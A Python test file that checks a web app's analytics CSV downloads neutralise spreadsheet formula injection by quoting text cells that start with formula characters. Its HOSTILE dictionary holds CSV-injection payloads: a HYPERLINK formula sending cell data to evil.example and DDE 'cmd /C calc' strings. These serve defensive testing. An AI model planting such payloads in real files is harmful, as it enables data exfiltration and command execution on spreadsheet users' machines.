"""CSV downloads never carry a live formula: text cells starting with = + - @, a tab or a
carriage return are quoted as text, as OWASP advises; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from server.db import database
from server.models import Offer, Place, Shop, Sticker
from server.services import stats
from server.spreadsheet import Writer, cell
from tests.server.analytics.test_dashboard import RANGE, _as, world  # noqa: F401  (a fixture)

HOSTILE = {
    "shop": '=HYPERLINK("https://evil.example/?d="&A1,"Le Comptoir")',
    "museum": "+SUM(1,2)",
    "window": "@SUM(1+1)*cmd|' /C calc'!A0",
    "offer": "-2+3+cmd|' /C calc'!A0",
    "location": "\t=1+1",
    "other": "\r=1+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("database_kind", ["sqlite"])  # how cells are written, not storage
def test_no_download_carries_a_live_formula(app, world):  # noqa: F811
    with database(app).transaction() as session:
        session.get(Shop, world.shop).name = HOSTILE["shop"]
        session.get(Place, world.museum).name = HOSTILE["museum"]
        session.get(Place, world.window).name = HOSTILE["window"]
        session.get(Offer, world.offer).title = {"fr": HOSTILE["offer"]}
        session.get(Sticker, world.museum_sticker).location = HOSTILE["location"]
        session.get(Sticker, world.window_sticker).location = HOSTILE["other"]
    analyst = _as(app, "analyst")
    seen = set()
    for name in stats.FIGURES:
        response = analyst.get(f"/portal/analytics/{name}.csv?{RANGE}")
        assert response.status_code == 200, name
        for row in csv.reader(io.StringIO(response.get_data(as_text=True))):
            for value in row:
                assert not value.startswith(FORMULA_STARTS) or _number(value), (name, value)
                seen.add(value)
    for text in HOSTILE.values():
        assert "'" + text in seen  # shown as the text it is
    assert "0.5" in seen and "10" in seen  # numbers as numbers


def test_the_writer_quotes_text_cells_only():
    output = io.StringIO()
    row = [-3, -2.5, 0, "-3", "=1+1", "@a", "+a", "\tx", "\rx", "plain", "a=b", None]
    Writer(output, lineterminator="\r\n").writerow(row)
    assert output.getvalue().startswith("-3,-2.5,0,'-3,'=1+1,'@a,'+a,")
    read = next(csv.reader(io.StringIO(output.getvalue(), newline="")))
    assert read == [
        "-3",
        "-2.5",
        "0",
        "'-3",
        "'=1+1",
        "'@a",
        "'+a",
        "'\tx",
        "'\rx",
        "plain",
        "a=b",
        "",
    ]
    assert cell(-7) == -7 and cell(1.5) == 1.5 and cell("x") == "x"
